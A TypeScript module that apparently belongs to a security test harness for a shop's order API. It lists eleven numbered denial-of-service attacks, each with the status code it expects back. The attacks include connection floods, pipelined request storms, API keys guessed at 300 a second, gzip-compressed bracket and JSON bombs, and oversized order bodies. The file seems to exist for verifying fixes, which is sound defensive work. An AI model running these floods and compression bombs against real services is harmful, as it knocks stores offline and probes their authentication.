import { gzipSync } from 'node:zlib';
import type { Arm, Attack } from './attack.ts';
import { countAnswers, countConnection, endOf, signed } from './attack.ts';

const smallest = 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(2_000);
const gzip = { 'content-encoding': 'gzip' };
const closers = gzipSync(`{${'}'.repeat(1_000_000)}`);
const wrong = Array.from({ length: 60 }, (_, place) => [`wrong${String(place)}`, 1] as const);
const long = { ...Object.fromEntries(wrong), email: 'x'.repeat(1_000_000) };
/** A document that was never sent before, which the store runs another way than one that was. */
const variables = (place: number): Buffer =>
  gzipSync(
    JSON.stringify({
      query: `query ($f: OrderFilter) { myOrders(filter: $f) { totalCount } } # ${String(place)}`,
      variables: { f: long },
    }),
  );
/** Attributes that nobody knows. */
const unknown = (count: number, end = ''): string =>
  Array.from({ length: count }, (_, place) => `"n${String(place)}${end}":1`).join(',');
const names = unknown(19_900);

/** The customer's order with its one line nineteen times, each with as many attributes as an object may have. */
async function largest({ prepare, target }: Arm): Promise<string> {
  const headers = { 'x-serviceapikey': target.key };
  const { text } = await prepare('GET', `/api/orders/${target.order}`, { headers });
  const [, id] = /"line_items":\[\{"id":(\d+)/.exec(text) ?? [];
  if (!id) throw new Error(`No order with a line: ${text}`);
  const line = `{"id":${id},${unknown(999, 'x'.repeat(33))}}`;
  return `{"order":{"line_items":[${Array<string>(19).fill(line).join(',')}]}}`;
}

/** Sends a request over a connection five times at once, and again whenever one is answered. */
async function keepFive(arm: Arm, request: string): Promise<void> {
  const socket = arm.connect();
  countAnswers(arm, socket, () => socket.write(request));
  socket.resume().write(request.repeat(5));
  await endOf(socket);
}

/** Sends a text over a connection of its own, and waits until the store ends that. */
async function sendWhole(arm: Arm, text: string): Promise<void> {
  const socket = arm.connect();
  countConnection(arm, socket);
  countAnswers(arm, socket);
  socket.resume().write(text);
  await endOf(socket);
}

const listWith = (header: string): string =>
  `GET /api/orders/mine?per_page=300 HTTP/1.1\r\nHost: a\r\n${header}\r\n\r\n`;

/** What one client can do by numbers alone: of connections, of requests, of keys and tokens, of names. */
export const attacksOfCrowds: readonly Attack[] = [
  {
    finding: '14',
    does: '240 connections without a key, each with five requests at once',
    reaches: 401,
    strike: (arm) => arm.crowd(240, () => keepFive(arm, listWith('Accept: */*'))),
  },
  {
    finding: '14',
    does: '240 connections with a key, each with five requests for the longest list at once',
    reaches: 200,
    carts: 300,
    strike: (arm) =>
      arm.crowd(240, () => keepFive(arm, listWith(`X-ServiceAPIKey: ${arm.target.key}`))),
  },
  {
    finding: '14',
    does: '50 connections, over each 2,000 of the smallest requests at once',
    reaches: 0,
    strike: (arm) => arm.crowd(50, () => sendWhole(arm, smallest)),
  },
  {
    finding: '14',
    does: '64 connections read 64 orders, each with the token of its own',
    reaches: 200,
    carts: 64,
    strike: (arm) =>
      arm.crowd(64, (place) => {
        const { number, token } = arm.target.carts[place % arm.target.carts.length] ?? {};
        return arm.ask('GET', `/api/orders/${String(number)}?order_token=${String(token)}`);
      }),
  },
  {
    finding: '14',
    does: 'made-up keys, 300 a second',
    reaches: 401,
    strike: (arm) =>
      arm.pace(300, (place) =>
        arm.ask('GET', '/api/orders/mine', {
          headers: { 'x-serviceapikey': `made-up-${String(place)}` },
        }),
      ),
  },
  {
    finding: '0',
    does: '300 connections send what is no request, and connect again',
    reaches: 400,
    strike: (arm) => arm.crowd(300, () => sendWhole(arm, 'X\r\n\r\n')),
  },
  {
    finding: '0',
    does: '64 connections at a time without a request, as fast as they open',
    reaches: 0,
    strike: (arm) =>
      arm.crowd(64, async () => {
        const socket = arm.connect();
        countConnection(arm, socket);
        socket.once('connect', () => socket.resetAndDestroy());
        await endOf(socket);
      }),
  },
  {
    finding: '3',
    does: '16 connections send bodies of 0.8 MB and 19,000 values without a pause',
    reaches: 200,
    readies: largest,
    strike: (arm, body = '') =>
      arm.crowd(16, () =>
        arm.ask('PUT', `/api/orders/${arm.target.order}`, { headers: signed(arm), body }),
      ),
  },
  {
    finding: '1',
    does: 'a megabyte of closing brackets in 1 kB of gzip, 50 times a second',
    reaches: 400,
    strike: (arm) =>
      arm.pace(50, () =>
        arm.ask('POST', '/api/orders', { headers: { ...signed(arm), ...gzip }, body: closers }),
      ),
  },
  {
    finding: '4',
    does: 'a megabyte of variables with sixty wrong names in 1 kB of gzip, each with another document, 20 times a second',
    reaches: 200,
    strike: (arm) =>
      arm.pace(20, (place) =>
        arm.ask('POST', '/graphql', {
          headers: { ...signed(arm), ...gzip },
          body: variables(place),
        }),
      ),
  },
  {
    finding: '3',
    does: '19,900 attributes that nobody knows, 20 times a second',
    reaches: 400,
    strike: (arm) =>
      arm.pace(20, () =>
        arm.ask('PUT', `/api/orders/${arm.target.order}`, {
          headers: signed(arm),
          body: `{"order":{${names}}}`,
        }),
      ),
  },
];
